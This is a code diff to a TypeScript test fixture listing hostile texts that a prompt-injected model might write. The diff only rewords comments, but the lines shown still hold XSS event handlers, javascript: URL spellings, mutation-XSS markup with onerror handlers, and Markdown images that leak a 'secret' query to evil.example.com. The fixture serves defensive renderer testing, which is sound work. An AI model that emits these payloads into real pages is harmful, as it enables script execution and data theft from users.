@@ -1,8 +1,8 @@
 /**
- * hostile-texts.ts: what a hijacked model may write, grouped by what it tries.
+ * hostile-texts.ts: texts that a hijacked model may write, grouped by what they try.
  *
- * Whatever would run says `owned(…)`; whatever would ask somebody asks a name under `evil.example.com`. Each text ends in
- * words of its own (`END`), so that a test sees that it was drawn to its end.
+ * Code calls `owned(…)`; requests go to a host under `evil.example.com`. Each text ends in a unique mark (`END`), so that a
+ * test sees that it was drawn completely.
  */
 
 export interface Hostile {
@@ -88,7 +88,7 @@ const HANDLERS = [
   `<a href=# onclick=${RUN}>x</a>`,
 ]
 
-/** Spellings of an address that runs. */
+/** Spellings of URLs that run code. */
 const RUNNING = [
   `javascript:${RUN}`,
   `JAVASCRIPT:${RUN}`,
@@ -118,7 +118,7 @@ const RUNNING = [
   `\\javascript:${RUN}`,
 ]
 
-/** Every form in which Markdown takes an address. */
+/** Every Markdown syntax that contains a URL. */
 const FORMS: readonly ((address: string) => string)[] = [
   (address) => `[click](${address})`,
   (address) => `[click](<${address}> "title")`,
@@ -127,7 +127,7 @@ const FORMS: readonly ((address: string) => string)[] = [
   (address) => `<${address}>`,
 ]
 
-/** Markup that a browser mends into something else. */
+/** Markup that a browser repairs into something else. */
 const MENDED = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
   `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`,
@@ -168,7 +168,7 @@ const CLOBBERS = ["app", "__proto__", "constructor", "location", "body", "forms"
   (name) => [`<form id="${name}"><input name="${name}" id="${name}"></form>`, `<a id="${name}" name="${name}">x</a>`],
 )
 
-/** What would carry words away without a click. */
+/** Markup that would leak text without a click. */
 const LEAKS = [
   `![p](${EVIL}/p.png)`,
   `![p](${EVIL}/p.png?q=secret "t")`,
@@ -312,8 +312,8 @@ export const HOSTILE: readonly Hostile[] = [
   ...groupOf("directive", DIRECTIVES),
 ]
 
-/** Code, whose text is to be seen exactly. */
+/** Code, whose text must be shown exactly. */
 export const CODE: readonly string[] = [...SCRIPTS, ...HANDLERS, ...MENDED, ...LEAKS, ...DIRECTIVES].filter(
-  // What begins or ends code, or is no text on a page, is another test's matter.
+  // Other tests cover code delimiters and characters that are not shown.
   (text) => !/[`\u0000\ud800-\udfff\n]/.test(text) && text.length < 200,
 )
